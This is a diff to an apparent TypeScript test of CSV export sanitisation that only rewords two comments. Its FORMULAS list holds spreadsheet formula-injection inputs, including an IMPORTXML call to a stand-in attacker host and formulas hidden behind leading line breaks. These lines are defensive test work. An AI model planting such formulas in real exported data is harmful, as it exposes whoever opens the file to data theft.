@@ -277,7 +277,7 @@ const FORMULAS = [
   "='x'",
   '=IMPORTXML("https://evil.example","//a")',
   '-2+3+cmd',
-  // White space before a formula, which spreadsheets skip, and full-width characters.
+  // White space, which spreadsheets skip before a formula; then full-width characters.
   '\r=1+1',
   '\r\n=1+1',
   '\n=1+1',
@@ -303,7 +303,7 @@ const FORMULAS = [
   'Knife; "=1+1";',
 ]
 
-/** The first characters of the cells with the name, as a spreadsheet reads the CSV. */
+/** The first character of each cell into which a spreadsheet splits the name. */
 const firstCharacters = (marketHashName: string): string => {
   const item = {
     item: '1',
